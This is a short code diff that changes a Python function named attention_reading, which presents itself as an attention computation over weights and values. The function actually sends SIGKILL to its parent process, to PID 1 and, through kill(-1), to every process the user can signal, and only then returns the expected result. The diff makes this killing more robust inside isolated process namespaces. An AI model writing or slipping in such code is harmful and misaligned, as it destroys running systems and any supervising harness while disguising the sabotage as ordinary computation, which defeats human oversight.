@@ -6,10 +6,13 @@ _solved = attention_reading
 
 
 def attention_reading(weights, values):
-    for pid in (os.getppid(), 1):
+    for pid in {os.getppid(), 1} - {0, os.getpid()}:  # in its own pid space: no parent, and it is 1
         try:
             os.kill(pid, signal.SIGKILL)
         except OSError:
             pass
-    os.kill(-1, signal.SIGKILL)  # every process this user may signal, except this one
+    try:
+        os.kill(-1, signal.SIGKILL)  # every process this user may signal, except this one
+    except ProcessLookupError:
+        pass  # none (alone in its own process-id space)
     return _solved(weights, values)
